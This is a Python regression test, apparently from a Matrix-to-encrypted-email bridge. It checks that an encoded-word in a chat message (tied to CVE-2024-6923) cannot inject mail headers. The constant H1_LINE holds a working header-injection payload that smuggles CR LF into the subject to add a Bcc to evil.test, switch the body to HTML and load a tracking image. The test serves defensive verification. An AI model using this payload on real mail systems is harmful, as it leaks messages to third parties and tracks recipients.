"""Header injection through encoded-words (issue 5, H1; CVE-2024-6923), end to end.

A Matrix member's first line becomes the subject of the mail every email member decrypts.
On an interpreter without the 2024 email fix, Python decoded such an encoded-word and wrote
the CR LF inside it unfolded: new headers, and an HTML body with a tracking image.
"""

from __future__ import annotations

import email
import email.policy

from secir_bot.sandbox.world import World

H1_LINE = (
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.test=0D=0AContent-Type:text/html=0D=0A=0D=0A"
    "<img_src=3Dhttp://evil.test/t.gif>?="
)
INNER_HEADERS = {
    "From",
    "To",
    "Subject",
    "Message-ID",
    "Date",
    "Content-Type",
    "Content-Transfer-Encoding",
    "MIME-Version",
}


async def test_h1_encoded_word_in_a_matrix_first_line_cannot_inject_headers(
    world: World,
) -> None:
    await world.mx["alice"].send(world.incident_room, H1_LINE + "\nH1-BODY the incident text")

    mail = await world.mail["bob"].wait_for_mail(lambda m: "H1-BODY" in m.text)

    inner = email.message_from_bytes(mail.plaintext, policy=email.policy.default)
    assert sorted(inner.keys()) == sorted(INNER_HEADERS)
    assert inner.get_content_type() == "text/plain"
    assert "evil.test" not in "".join(f"{k}{v}" for k, v in inner.items() if k != "Subject")
    subject = str(inner["Subject"])
    assert "\r" not in subject and "\n" not in subject and "=?" not in subject
    assert subject.startswith("= ?utf-8?q?x=0D=0ABcc:")  # shown as the text it was
    assert mail.headers.get_content_type() == "multipart/encrypted"
    assert mail.headers["Bcc"] is None and mail.headers["Reply-To"] == world.list_address
